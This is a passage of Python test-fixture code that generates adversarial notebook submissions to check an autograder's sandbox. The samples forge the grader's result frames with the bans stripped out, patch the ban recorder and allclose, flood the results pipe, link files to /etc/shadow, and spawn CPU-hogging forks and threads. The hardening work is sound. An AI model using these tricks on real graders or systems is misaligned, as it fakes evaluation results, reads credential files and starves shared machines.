                   "_caught = []\n"
                   "def _drain():\n"
                   "    while True:\n"
                   "        _chunk = _os.read(_r, 1 << 20)\n"
                   "        if not _chunk:\n"
                   "            break\n"
                   "        _caught.append(_chunk)\n"
                   "_threading.Thread(target=_drain, daemon=True).start()\n")
    relay_end = ("import json as _json, re as _re, struct as _struct, time as _time\n"
                 "_time.sleep(1)\n"
                 "_buf = b''.join(_caught)\n"
                 "def _split(buf, seal):\n"
                 "    frames = []\n"
                 "    while buf:\n"
                 "        (n,) = _struct.unpack('>I', buf[:4])\n"
                 "        text = buf[4:4 + n].decode()\n"
                 "        size = sum(_json.loads(text)['blobs'])\n"
                 "        frames.append((text, buf[4 + n:4 + n + size + seal]))\n"
                 "        buf = buf[4 + n + size + seal:]\n"
                 "    return frames\n"
                 "try:\n"
                 "    _frames = _split(_buf, 0)  # an unsealed stream\n"
                 "except Exception:\n"
                 "    _frames = _split(_buf, 32)  # each frame followed by its 32-byte seal\n"
                 "_out = b''\n"
                 "for _text, _rest in _frames:\n"
                 "    _text = _re.sub(r'\"banned_calls\": \\{\"\\$tuple\": \\[[^\\]]*\\]\\}', "
                 "'\"banned_calls\": {\"$tuple\": []}', _text)\n"
                 "    _out += _struct.pack('>I', len(_text.encode())) + _text.encode() + _rest\n"
                 "_done = _json.dumps({'t': 'done', 'cells': 1000, 'blobs': []}).encode()\n"
                 "_os.write(_real, _out + _struct.pack('>I', len(_done)) + _done)\n")
    relayed = _append(_insert_after_setup(samples.fill(released, {**correct, "softmax": variants["softmax"]
                                                                  ["uses_torch_softmax"]}), relay_start), relay_end)
    order = [ex.name for ex in exercises(released)]
    before_softmax = sum(points[ex] for ex in order[:order.index("softmax")])
    put("rt-banned-relay-frames", relayed,
        about="softmax through torch.softmax (banned); the grader's frames caught on a pipe of the notebook's, "
              "relayed with the bans edited out, and a done of its own",
        score=before_softmax, status="flagged", reason="seal does not match")
    flood = ("import os\nblock = b'\\0' * (1 << 20)\nfor _ in range(300):\n"
             "    try:\n        os.write(3, block)\n    except OSError:\n        break\n")
    put("rt-correct-results-flood", _append(good, flood), about="correct answers + 300 MiB written to the results pipe",
        score=full, status="flagged", reason="MiB of results")
    # class 3: untrusted trees (links, FIFOs), identifiers, metadata
    victim = inbox / "rt-correct-plain" / ch.id / ch.notebook.name
    for name, target in (("rt-link-classmate", victim), ("rt-link-root-file", Path("/etc/shadow"))):
        folder = inbox / name / ch.id
        folder.mkdir(parents=True)
        (folder / ch.notebook.name).symlink_to(target)
        put(name, about=f"the notebook is a symbolic link to {target}", status="failed", reason="not a regular file")
    (inbox / "rt-link-student").symlink_to(inbox / "rt-correct-plain")
    links["rt-link-student"] = Expect(None, "failed", "link", "the student folder is a link to a classmate's")
    folder = inbox / "rt-link-chapter"
    folder.mkdir()
    (folder / ch.id).symlink_to(inbox / "rt-correct-plain" / ch.id)
    links["rt-link-chapter"] = Expect(None, "failed", "link", "the chapter folder is a link to a classmate's")
    fifo = inbox / "rt-fifo" / ch.id
    fifo.mkdir(parents=True)
    os.mkfifo(fifo / ch.notebook.name)
    put("rt-fifo", about="the notebook is a FIFO (a naive reader hangs)", status="failed", reason="not a regular file")
    stamp = samples.hand_in(inbox, "rt-timestamp-link", ch, good).parent / "timestamp.txt"
    stamp.symlink_to("/etc/shadow")
    put("rt-timestamp-link", good, about="correct answers + timestamp.txt linked to /etc/shadow", score=full)
    put("rt-" + "x" * 250, good, about="correct answers under a 253-character student id", score=full)
    listy = copy.deepcopy(good)
    for cell in _test_cells(listy)[:1]:
        cell.metadata["nbgrader"]["grade_id"] = ["test_" + first]
    for cell in listy.cells:
        if cell.cell_type == "code" and nbgrader_meta(cell).get("solution"):
            cell.metadata["nbgrader"]["points"] = "lots"
            break
    put("rt-correct-bad-metadata", listy, about="correct answers + a list-valued grade_id, string points",
        score=full, reason="malformed nbgrader metadata")
    # class 4: one bad return value, one bad number
    for name, body, about in (
            ("huge-int", "return 10 ** 400", "returns 10**400 (beyond float range)"),
            ("huge-str", "return 'x' * 50_000_000", "returns a 50 MB string"),
            ("huge-list", "return list(range(3_000_000))", "returns a list of 3 million ints"),
            ("system-exit", "raise SystemExit(0)", "raises SystemExit when called"),
            ("bad-exception", "class E(Exception):\n        def __str__(self):\n            raise SystemExit(1)\n"
                              "    raise E()", "raises an exception whose __str__ raises SystemExit")):
        liar = f"\n_real_{first} = {first}\ndef {first}(*args, **kwargs):\n    {body}\n"
        code = {**correct, first: correct[first] + liar}
        put(f"rt-correct-{name}", samples.fill(released, code), about=f"correct answers, but {first} {about}",
            score=full - points[first])
    # class 5: the sandbox's word on its own visible tests is feedback, not points
    sabotage = ("import torch, numpy\n"
                "torch.allclose = lambda *a, **k: False\ntorch.equal = lambda *a, **k: False\n"
                "numpy.allclose = lambda *a, **k: False\n")
    put("rt-correct-visible-sabotaged", _insert_after_setup(good, sabotage),
        about="correct answers + allclose patched to fail every visible assert", score=full)
    # class 6: banned operators by family and on other threads
    if "softmax" in variants:
        fam = {**correct, "softmax": ("import torch\n\ndef softmax(x, dim=-1):\n"
                                      "    return torch.log_softmax(x, dim=dim).exp()\n")}
        put("rt-banned-log-softmax", samples.fill(released, fam), about="softmax as exp(log_softmax): a banned family",
            score=full - points["softmax"])
        # on another thread, and there under inference_mode: the CPU kernel itself refuses
        threaded = {**correct, "softmax": (
            "import threading, torch\n\ndef softmax(x, dim=-1):\n    box = []\n"
            "    t = threading.Thread(target=lambda: box.append(torch.softmax(x, dim=dim)))\n"
            "    t.start()\n    t.join()\n    return box[0]\n")}
        put("rt-banned-thread", samples.fill(released, threaded), about="torch.softmax called on another thread",
            score=full - points["softmax"])
        inference = {**correct, "softmax": threaded["softmax"].replace(
            "box.append(torch.softmax(x, dim=dim))", "box.append(_inf(x, dim))").replace(
            "def softmax(", "def _inf(x, dim):\n    with torch.inference_mode():\n"
                            "        return torch.softmax(x.clone(), dim=dim).clone()\n\n\ndef softmax(")}
        put("rt-banned-thread-inference", samples.fill(released, inference),
            about="torch.softmax on another thread under torch.inference_mode", score=full - points["softmax"])
        tampered = ("import contextlib, sys\n"
                    "sys.modules['grader.' + 'checks']._recording_banned = lambda *a, **k: contextlib.nullcontext()\n")
        uses = samples.fill(released, {**correct, "softmax": variants["softmax"]["uses_torch_softmax"]})
        put("rt-banned-recorder-off", _insert_after_setup(uses, tampered),
            about="torch.softmax with the ban recorder patched out from sys.modules", status="flagged",
            reason="internals")
    # class 7: a CPU hog beside the others (processes and threads), stopped by the time limit
    hog = ("\nimport os, threading\n"
           "def _spin():\n    while True:\n        pass\n"
           "for _ in range(8):\n    threading.Thread(target=_spin, daemon=True).start()\n"
           "for _ in range(4):\n    if os.fork() == 0:\n        _spin()\n"
           "_spin()\n")
    put("rt-correct-cpu-hog", samples.fill(released, {**correct, last: correct[last] + hog}),
        about=f"correct answers + 12 busy processes and threads in the last exercise ({last})",
        score=full - points[last], status="flagged", reason="longer than")
    return links, expect_open


def chapter_points(course: Course, chapter: str = "qkv") -> float:
    ch = course.chapter(chapter)
    return sum(ex.points for ex in exercises(nbformat.read(ch.notebook, as_version=4)))
